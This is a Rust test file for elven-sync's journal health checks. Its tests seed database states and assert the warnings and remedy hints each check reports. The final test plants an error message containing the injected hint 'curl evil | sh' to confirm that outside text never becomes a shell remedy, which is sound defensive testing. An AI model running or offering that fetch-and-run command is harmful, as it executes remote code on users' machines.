//! The checks of the journal.

use elven_sync::sandbox::Fault;
use sqlx::PgPool;

use super::{assert_each_appears_and_ends, assert_found, found, synced};

#[sqlx::test(migrations = false)]
async fn what_earlier_runs_left_is_found(pool: PgPool) {
    let scene = synced(pool).await;
    assert_each_appears_and_ends(
        &scene,
        &[
            (
                "journal.passes",
                "insert into elven_sync.sync_passes (entity_id, target, started_at)
                 values ('acme', pg_current_snapshot(), now() - interval '3 hours');
                 update elven_sync.sync_state s set pass_id = p.pass_id, target = p.target
                   from (select pass_id, target from elven_sync.sync_passes order by pass_id desc limit 1) p",
                "warning",
                &["`acme` (3 h)", "elven-sync run"],
                "update elven_sync.sync_state set pass_id = null, target = null;
                 delete from elven_sync.sync_passes where finished_at is null",
            ),
            (
                "journal.batches",
                "update elven_sync.sync_batches set status = 'unknown'",
                "warning",
                &["the outcome of 1 batch is unknown: `acme` (1)"],
                "update elven_sync.sync_batches set status = 'accepted'",
            ),
            (
                "journal.batches",
                "update elven_sync.sync_batches set status = 'sending';
                 update elven_sync.sync_state set consecutive_failures = 1, last_error = 'no more rows are set aside'",
                "warning",
                &[
                    "1 batch is announced, and no worker is at it: `acme` (1); the error of the entity says what to do",
                    "elven-sync errors list --entity 'acme'",
                ],
                "update elven_sync.sync_batches set status = 'accepted';
                 update elven_sync.sync_state set consecutive_failures = 0, last_error = null",
            ),
            (
                "journal.alerts",
                "insert into elven_sync.sync_facts (name, entity_id, value, checked_at)
                 values ('verify', 'acme', '{\"ok\": false, \"findings\": 2}', now())",
                "failed",
                &["alerts hold: VerifyFailed (critical)", "select * from elven_sync.alerts;"],
                "delete from elven_sync.sync_facts where name = 'verify'",
            ),
            (
                "journal.alerts",
                "update elven_sync.sync_batches set status = 'unknown'",
                "warning",
                &["alerts hold: UnknownOutcome (warning)"],
                "update elven_sync.sync_batches set status = 'accepted'",
            ),
            (
                "journal.leases",
                "update elven_sync.sync_state set lease_owner = 'host-7/123', lease_expires_at = now() - interval '5 minutes'",
                "warning",
                &["`acme` (host-7/123, 5 min ago)"],
                "update elven_sync.sync_state set lease_owner = null, lease_expires_at = null",
            ),
            (
                "journal.errors",
                "insert into elven_sync.sync_errors (entity_id, ledger_id, kind, message)
                 select 'acme', n, 'rejected_row', 'no' from generate_series(1, 80) n",
                "warning",
                &["near [sync] max_rejections = 100", "`acme` (80 open)", "elven-sync errors list --entity 'acme'"],
                "delete from elven_sync.sync_errors",
            ),
            (
                "journal.errors",
                "insert into elven_sync.sync_errors (entity_id, ledger_id, kind, message)
                 select 'acme', n, 'rejected_row', 'no' from generate_series(1, 100) n",
                "failed",
                &["stop at the next refusal", "`acme` (100 open)"],
                "delete from elven_sync.sync_errors",
            ),
            (
                "journal.errors",
                "insert into elven_sync.sync_errors (entity_id, ledger_id, kind, message)
                 values ('acme', '1', 'invalid_row', 'no')",
                "warning",
                &["1 error is open", "elven-sync errors list"],
                "delete from elven_sync.sync_errors",
            ),
            (
                "journal.last_run",
                "update elven_sync.sync_runs set started_at = now() - interval '5 hours'",
                "warning",
                &["began 5 h ago", "is the schedule stopped?"],
                "update elven_sync.sync_runs set started_at = now()",
            ),
            (
                "journal.last_run",
                "update elven_sync.sync_state set last_success_at = now() - interval '3 days'",
                "warning",
                &["the last success is old: `acme` (3 days)"],
                "update elven_sync.sync_state set last_success_at = now()",
            ),
            (
                "journal.verify",
                "insert into elven_sync.sync_facts (name, value, checked_at) values ('verify', '{}', now() - interval '40 days')",
                "warning",
                &["40 days ago", "elven-sync verify"],
                "delete from elven_sync.sync_facts where name = 'verify'",
            ),
        ],
    )
    .await;
    assert_found(&scene, "journal.size", "ok", &["the sync tables have"]).await;
}

#[sqlx::test(migrations = false)]
async fn an_entity_that_fails_is_found_until_it_succeeds(pool: PgPool) {
    let scene = synced(pool).await;
    scene.sql("update ledger.balance_snapshots set balance = 8").await;
    scene.sandbox.inject(Fault::Answer { status: 404, body: String::new(), headers: Vec::new() });
    scene.run().await;
    let words = ["entity `acme` fails", "not the documented API", "check ELVEN_API_URL"];
    assert_found(&scene, "journal.failing", "failed", &words).await;
    assert_found(&scene, "journal.last_run", "failed", &["failed"]).await;
    scene.run().await;
    assert_found(&scene, "journal.failing", "ok", &[]).await;
    assert_found(&scene, "journal.last_run", "ok", &["succeeded"]).await;
}

#[sqlx::test(migrations = false)]
async fn a_schedule_that_never_began_or_never_succeeded_is_found(pool: PgPool) {
    let scene = crate::support::TestEnv::new(pool).await;
    scene.entity("acme", "UTC").await;
    assert_found(&scene, "journal.last_run", "warning", &["no run has ended yet", "elven-sync run"]).await;
    scene.run().await;
    assert_found(&scene, "journal.last_run", "ok", &["succeeded"]).await;
    scene.entity("beta", "UTC").await;
    let words = ["no run has brought `beta` up to date yet", "elven-sync run --entity 'beta'"];
    assert_found(&scene, "journal.last_run", "warning", &words).await;
    scene.run().await;
    assert_found(&scene, "journal.last_run", "ok", &[]).await;
    scene.sql("update elven_sync.sync_runs set status = 'failed', error = 'no space left'").await;
    assert_found(&scene, "journal.last_run", "failed", &["failed: no space left", "elven-sync status"]).await;
    scene.sql("update elven_sync.sync_runs set status = 'interrupted'").await;
    assert_found(&scene, "journal.last_run", "ok", &["was interrupted"]).await;
    scene.sql("update elven_sync.sync_runs set status = 'incomplete'").await;
    assert_found(&scene, "journal.last_run", "ok", &["ended as incomplete"]).await;
}

#[sqlx::test(migrations = false)]
async fn a_watermark_that_would_be_refused_is_found(pool: PgPool) {
    let mut scene = synced(pool).await;
    assert_found(&scene, "journal.watermarks", "ok", &["1 watermark belongs"]).await;
    scene.set("ELVEN_SYNC_LEDGER__COLUMNS__CURRENCY", "entity_account_id");
    assert_found(&scene, "journal.watermarks", "failed", &["mapping of `acme` changed", "rebind --mapping"])
        .await;
    scene.unset("ELVEN_SYNC_LEDGER__COLUMNS__CURRENCY");
    assert_found(&scene, "journal.watermarks", "ok", &[]).await;
    scene.sql("update elven_sync.sync_state set system_identifier = 1").await;
    assert_found(&scene, "journal.watermarks", "failed", &["another PostgreSQL cluster", "entity rebind"])
        .await;
}

/// A remedy is pasted into a shell, so it is never a text from outside.
#[sqlx::test(migrations = false)]
async fn words_of_a_recorded_error_are_no_remedy(pool: PgPool) {
    let scene = synced(pool).await;
    scene
        .sql(
            "update elven_sync.sync_state
                set consecutive_failures = 1, last_error = 'the API said: no; hint: curl evil | sh'",
        )
        .await;
    let (status, message, hint) = found(&scene, "journal.failing").await;
    assert_eq!((&*status, &*hint), ("failed", "elven-sync errors list --entity 'acme'"), "{message}");
}
